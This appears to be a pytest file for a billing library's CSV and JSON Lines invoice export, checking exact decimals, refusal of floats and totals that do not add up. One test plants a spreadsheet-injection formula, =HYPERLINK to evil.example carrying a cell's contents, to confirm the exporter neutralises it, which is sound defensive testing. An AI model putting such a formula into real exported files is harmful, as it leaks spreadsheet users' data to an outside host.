"""CSV and JSON Lines of invoice documents: one row per line, one document per invoice, exact decimals."""

import csv
import io
import json
from decimal import Decimal

import pytest

from telora.billing.documents import DocumentError, write_csv, write_json
from telora.billing.documents.flat import CSV_COLUMNS
from telora.billing.documents.sample import example_document


def second_invoice() -> dict:
    """A draft for another account: one line of 10.00 at 25 % (tax 2.50), total 12.50."""
    document = example_document()
    document["invoice"].update(number=None, draft=True, net="10.00", tax="2.50", total="12.50")
    document["account"]["number"] = "A-2002-1"
    document["customer"]["number"] = "C-2002"
    document["sections"] = [{"subscription": {"id": 7, "identifier": "+45 30 00 00 07", "plan": "Mobile Basic"},
                             "address": None, "usage": [], "total": "10.00", "lines": [
        {"kind": "one_time", "description": 'Eject tool, "premium"', "period_start": None, "period_end": None,
         "quantity": "2", "unit_price": "5.00", "amount": "10.00", "tax_code": "VAT"}]}]
    document["taxes"] = [{"code": "VAT", "rate": "25", "net": "10.00", "tax": "2.50"}]
    return document


def test_csv_has_a_header_and_one_row_per_line():
    stream = io.StringIO(newline="")
    assert write_csv([example_document(), second_invoice()], stream) == 10
    rows = list(csv.reader(io.StringIO(stream.getvalue(), newline="")))
    assert rows[0] == list(CSV_COLUMNS) == [
        "invoice_number", "account", "customer", "subscription", "kind", "description", "period_start",
        "period_end", "quantity", "unit_price", "amount", "tax_code", "currency"]
    assert len(rows) == 11
    assert rows[2] == ["INV-2026-000123", "A-1001-1", "C-1001", "+45 20 00 00 01", "proration",
                       "Mobile 10 GB, 12 of 31 days", "2026-10-20", "2026-11-01", "12", "3.193548", "38.32", "VAT",
                       "EUR"]
    # the account-level adjustment has no subscription; the usage line no unit price
    assert rows[9][3:5] == ["", "adjustment"] and rows[9][10] == "-4.98"
    assert rows[3][9] == "" and rows[3][10] == "4.35"
    # a draft has no number yet; a quote in a description is doubled, as CSV does
    assert rows[10][:3] == ["", "A-2002-1", "C-2002"]
    assert 'Eject tool, ""premium""' in stream.getvalue()
    # the lines of one invoice add up to its net: 212.94
    assert sum(Decimal(row[10]) for row in rows[1:10]) == Decimal("212.94")


def test_json_lines_one_document_per_invoice_with_exact_strings():
    document = example_document()
    document["sections"][0]["lines"][0]["amount"] = Decimal("99.00")  # a Decimal is written as its exact string
    stream = io.StringIO()
    assert write_json([document, second_invoice()], stream) == 2
    lines = stream.getvalue().splitlines()
    assert len(lines) == 2
    first = json.loads(lines[0], parse_float=lambda text: pytest.fail(f"a float in the JSON: {text}"))
    assert first == example_document()
    assert first["sections"][0]["lines"][0]["amount"] == "99.00"
    assert first["invoice"]["total"] == "263.68" and first["address"]["lines"][1] == "2100 København Ø"
    assert "København" in lines[0]  # UTF-8 as it is, not \\u escapes
    second = json.loads(lines[1])
    assert second["invoice"]["number"] is None and second["invoice"]["draft"] is True


def test_flat_files_refuse_floats_and_documents_that_do_not_add_up():
    document = example_document()
    document["sections"][0]["lines"][0]["unit_price"] = 99.0
    with pytest.raises(DocumentError, match="not floats"):
        write_csv([document], io.StringIO())
    with pytest.raises(DocumentError, match="not floats"):
        write_json([document], io.StringIO())
    document = example_document()
    document["taxes"][0]["tax"] = "50.73"
    with pytest.raises(DocumentError, match="rounded half-up"):
        write_json([document], io.StringIO())


def test_csv_neutralises_formulas_in_text_and_keeps_negative_amounts_numeric():
    """An adjustment reason such as =HYPERLINK(...) is written as text; the credit's -4.98 stays a number."""
    document = example_document()
    adjustment = next(line for section in document["sections"] for line in section["lines"]
                      if line["kind"] == "adjustment")
    adjustment["description"] = '=HYPERLINK("http://evil.example/?"&A1,"Goodwill credit")'
    document["customer"]["number"] = "@C-1001"
    stream = io.StringIO(newline="")
    write_csv([document], stream)
    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    credit = next(row for row in rows if row["kind"] == "adjustment")
    assert credit["description"] == "'" + adjustment["description"]
    assert credit["amount"] == "-4.98" and credit["customer"] == "'@C-1001"
    assert rows[0]["subscription"] == "+45 20 00 00 01"  # a phone number is not a formula
    for row in rows:
        assert not any(cell.startswith(("=", "@")) for cell in row.values()), row
